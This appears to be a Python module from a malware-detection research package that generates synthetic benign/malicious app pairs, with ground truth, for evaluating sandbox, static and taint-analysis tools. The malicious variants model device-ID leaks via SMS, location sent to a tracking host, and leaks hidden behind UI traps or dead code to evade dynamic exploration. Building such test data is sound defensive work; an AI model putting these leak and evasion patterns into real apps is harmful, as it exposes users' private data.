"""Synthetic benign/malign pair dataset with known ground truth.

Every pair belongs to one injection category whose detectability follows
from how the exploration strategies behave, not from running them:

``launch``       sensitive leak added to the launch code; every dynamic
                 tool, the static set and the taint engine see it
``random``       behind a screen where the id-ordered and the weighted
                 strategies deterministically step into a dead end
``modelbased``   at the end of a chain whose only way forward is the
                 widget with the smallest id (and a vanishing weight)
``humanoid``     at the end of a chain whose way forward has an
                 overwhelming weight and the largest id
``static``       behind a branch on a constant ``false``
``taint``        same API set, but the device id now reaches the SMS
``manifest``     permission or metadata change only
``dormant``      leak inside a method nothing calls
``widget``       location-to-HTTP leak in the only widget's handler
``listing``      the hand-written fixture pairs from data/fixtures/listings

The random/modelbased/humanoid traps rely on probabilities no larger than
about 1e-4 per repetition for the strategies that should miss (and
exactly zero for the deterministic ones); :func:`ground_truth` records the
intended outcome, which the test-suite checks against real runs.

Benign versions only call sensitive APIs unconditionally at launch, so the
benign dynamic call set never depends on the random stream.
"""

from __future__ import annotations

import json
import shutil
from dataclasses import asdict, dataclass, field
from importlib import resources
from pathlib import Path

DYNAMIC_TOOLS = ("random", "modelbased", "humanoid")

_LISTINGS = ("screenguru", "mathref", "smartrabbits", "flyracing")


@dataclass(frozen=True)
class PairTruth:
    category: str
    static: bool  # static sets differ, so the static-only sandbox detects
    dynamic: tuple[str, ...]  # dynamic tools whose WOS sandbox detects
    taint: bool


@dataclass
class SynthPair:
    pair_id: str
    benign: str
    malign: str
    truth: PairTruth


@dataclass
class _Parts:
    perms: list[str] = field(default_factory=list)
    meta: dict[str, str] = field(default_factory=dict)
    launch: list[str] = field(default_factory=list)
    refresh: list[str] = field(default_factory=list)
    screens: str = "screen main\n  widget refresh handler=onRefresh\n"
    methods: str = ""


def _render(app_id: str, p: _Parts) -> str:
    lines = [f"app {app_id}", "permission android.permission.INTERNET"]
    lines += [f"permission {x}" for x in p.perms]
    lines += [f"meta {k} {v}" for k, v in p.meta.items()]
    lines += ["extern Log.i String.concat getSystemService", "", "entry onCreate", ""]
    text = "\n".join(lines) + "\n" + p.screens + "\n"
    text += "method onCreate()\n"
    text += '  net = call getActiveNetworkInfo()\n  url = "http://ads.example.com/fetch"\n'
    text += "  call HttpClient.execute(url, net)\n"
    text += "".join(f"  {s}\n" for s in p.launch)
    text += "end\n\nmethod onRefresh()\n"
    text += '  msg = "refresh"\n  call Log.i(msg)\n'
    text += "".join(f"  {s}\n" for s in p.refresh)
    text += "end\n\nmethod onNoop()\nend\n"
    if p.methods:
        text += "\n" + p.methods
    return text


def _poke(api: str | None) -> str:
    body = f"  v = call {api}()\n" if api else '  m = "poke"\n  call Log.i(m)\n'
    return f"method onPoke()\n{body}end\n"


def _launch_leak(i: int) -> tuple[_Parts, _Parts, PairTruth]:
    b = _Parts()
    m = _Parts(
        perms=["android.permission.READ_PHONE_STATE", "android.permission.SEND_SMS"],
        launch=[
            'svc = "phone"',
            "tm = call getSystemService(svc)",
            "imei = call getDeviceId(tm)",
            'dest = "5554"',
            "call sendSMS(dest, imei)",
        ],
    )
    return b, m, PairTruth("launch", True, DYNAMIC_TOOLS, True)


def _random_trap(i: int, decoys: int = 99) -> tuple[_Parts, _Parts, PairTruth]:
    screens = "screen main\n  widget a_dead handler=onNoop target=dead\n"
    screens += "".join(f"  widget w{k:02d} handler=onPoke weight=1e-300\n" for k in range(decoys))
    screens += "screen dead\n"
    b = _Parts(screens=screens, methods=_poke(None))
    m = _Parts(screens=screens, methods=_poke("getSubscriberId"),
               perms=["android.permission.READ_PHONE_STATE"])
    return b, m, PairTruth("random", True, ("random",), False)


def _chain(next_id: str, next_weight: str, next_last: bool, levels: int = 4, dead_ends: int = 20) -> str:
    out = []
    for lvl in range(levels):
        target = f"c{lvl + 1}" if lvl + 1 < levels else "goal"
        nxt = f"  widget {next_id} handler=onNoop target={target} weight={next_weight}\n"
        dead = "".join(f"  widget d{k:02d} handler=onNoop target=dead\n" for k in range(dead_ends))
        out.append(f"screen c{lvl}\n" + (dead + nxt if next_last else nxt + dead))
    out.append("screen goal\n  widget a_evil handler=onPoke\n")
    out.append("screen dead\n")
    return "".join(out)


def _modelbased_trap(i: int) -> tuple[_Parts, _Parts, PairTruth]:
    # smallest id leads on; weighted sampling never reaches it (declared last, ~0 weight)
    screens = _chain("a_next", "1e-300", next_last=True)
    b = _Parts(screens=screens, methods=_poke(None))
    m = _Parts(screens=screens, methods=_poke("getSimSerialNumber"),
               perms=["android.permission.READ_PHONE_STATE"])
    return b, m, PairTruth("modelbased", True, ("modelbased",), False)


def _humanoid_trap(i: int) -> tuple[_Parts, _Parts, PairTruth]:
    # largest id leads on, so the id-ordered strategy takes a dead end first
    screens = _chain("z_next", "1000000000000", next_last=True)
    b = _Parts(screens=screens, methods=_poke(None))
    m = _Parts(screens=screens, methods=_poke("getLine1Number"),
               perms=["android.permission.READ_PHONE_STATE"])
    return b, m, PairTruth("humanoid", True, ("humanoid",), False)


def _static_only(i: int) -> tuple[_Parts, _Parts, PairTruth]:
    b = _Parts()
    m = _Parts(
        perms=["android.permission.GET_ACCOUNTS"],
        launch=[
            "flag = false",
            "if flag goto grab else skip",
            "grab:",
            '  kind = "com.google"',
            "  accounts = call getAccountsByType(kind)",
            "skip:",
            '  done = "ok"',
        ],
    )
    return b, m, PairTruth("static", True, (), False)


def _taint_only(i: int) -> tuple[_Parts, _Parts, PairTruth]:
    common = ['svc = "phone"', "tm = call getSystemService(svc)", "imei = call getDeviceId(tm)",
              "call Log.i(imei)", 'dest = "5554"', 'text = "hello"']
    perms = ["android.permission.READ_PHONE_STATE", "android.permission.SEND_SMS"]
    b = _Parts(perms=perms, launch=common + ["call sendSMS(dest, text)"])
    m = _Parts(perms=perms, launch=common + ["call sendSMS(dest, imei)"])
    return b, m, PairTruth("taint", False, (), True)


def _manifest_only(i: int) -> tuple[_Parts, _Parts, PairTruth]:
    if i % 2:
        b = _Parts(perms=["android.permission.VIBRATE"])
        m = _Parts(perms=["android.permission.VIBRATE", "android.permission.READ_CONTACTS"])
    else:
        b = _Parts(meta={"ADMOB_PUBLISHER_ID": f"a14cf73462958{i:02d}"})
        m = _Parts(meta={"ADMOB_PUBLISHER_ID": f"a14f099bfbf3c{i:02d}"})
    return b, m, PairTruth("manifest", False, (), False)


def _dormant(i: int) -> tuple[_Parts, _Parts, PairTruth]:
    b = _Parts()
    m = _Parts(
        perms=["android.permission.SEND_SMS"],
        methods=(
            "method dormant()\n"
            '  svc = "phone"\n  tm = call getSystemService(svc)\n  imei = call getDeviceId(tm)\n'
            '  dest = "5554"\n  call sendSMS(dest, imei)\nend\n'
        ),
    )
    return b, m, PairTruth("dormant", False, (), False)


def _widget_leak(i: int) -> tuple[_Parts, _Parts, PairTruth]:
    b = _Parts()
    m = _Parts(
        perms=["android.permission.ACCESS_FINE_LOCATION"],
        refresh=[
            'lsvc = "location"',
            "lm = call getSystemService(lsvc)",
            "loc = call getLastKnownLocation(lm)",
            'track = "http://track.example.org/loc"',
            "call HttpClient.execute(track, loc)",
        ],
    )
    return b, m, PairTruth("widget", True, DYNAMIC_TOOLS, True)


_LISTING_TRUTH = {
    "screenguru": PairTruth("listing", True, DYNAMIC_TOOLS, True),
    "mathref": PairTruth("listing", True, DYNAMIC_TOOLS, True),
    "smartrabbits": PairTruth("listing", True, DYNAMIC_TOOLS, True),
    "flyracing": PairTruth("listing", False, (), False),
}

RECIPE = (
    ("launch", _launch_leak, 5),
    ("random", _random_trap, 3),
    ("modelbased", _modelbased_trap, 2),
    ("humanoid", _humanoid_trap, 1),
    ("static", _static_only, 4),
    ("taint", _taint_only, 6),
    ("manifest", _manifest_only, 4),
    ("dormant", _dormant, 2),
    ("widget", _widget_leak, 3),
)


def synthetic_pairs() -> list[SynthPair]:
    out = []
    for tag, make, count in RECIPE:
        for i in range(1, count + 1):
            pid = f"{tag}_{i:02d}"
            b, m, truth = make(i)
            out.append(SynthPair(pid, _render(f"syn.{pid}.benign", b), _render(f"syn.{pid}.malign", m), truth))
    listings = resources.files("sandmine.data").joinpath("fixtures", "listings")
    for name in _LISTINGS:
        d = listings.joinpath(name)
        out.append(SynthPair(
            f"listing_{name}",
            d.joinpath("benign.app").read_text(encoding="utf-8"),
            d.joinpath("malign.app").read_text(encoding="utf-8"),
            _LISTING_TRUTH[name],
        ))
    return sorted(out, key=lambda p: p.pair_id)


def ground_truth(pairs: list[SynthPair] | None = None) -> dict[str, PairTruth]:
    return {p.pair_id: p.truth for p in (pairs or synthetic_pairs())}


def write_dataset(root: str | Path, pairs: list[SynthPair] | None = None) -> Path:
    """Write ``<root>/<pair_id>/{benign,malign}.app`` plus ``ground_truth.json``."""
    root = Path(root)
    pairs = pairs or synthetic_pairs()
    if root.exists():
        for sub in root.iterdir():
            if sub.is_dir():
                shutil.rmtree(sub)
    root.mkdir(parents=True, exist_ok=True)
    for p in pairs:
        d = root / p.pair_id
        d.mkdir()
        (d / "benign.app").write_text(p.benign, encoding="utf-8")
        (d / "malign.app").write_text(p.malign, encoding="utf-8")
    truth = {p.pair_id: asdict(p.truth) for p in pairs}
    (root / "ground_truth.json").write_text(json.dumps(truth, indent=1, sort_keys=True) + "\n", encoding="utf-8")
    return root


def load_ground_truth(root: str | Path) -> dict[str, PairTruth]:
    raw = json.loads((Path(root) / "ground_truth.json").read_text(encoding="utf-8"))
    return {k: PairTruth(v["category"], v["static"], tuple(v["dynamic"]), v["taint"]) for k, v in raw.items()}


def shipped_dataset() -> Path:
    """Path of the synthetic dataset installed with the package."""
    return Path(str(resources.files("sandmine.data").joinpath("synthetic")))
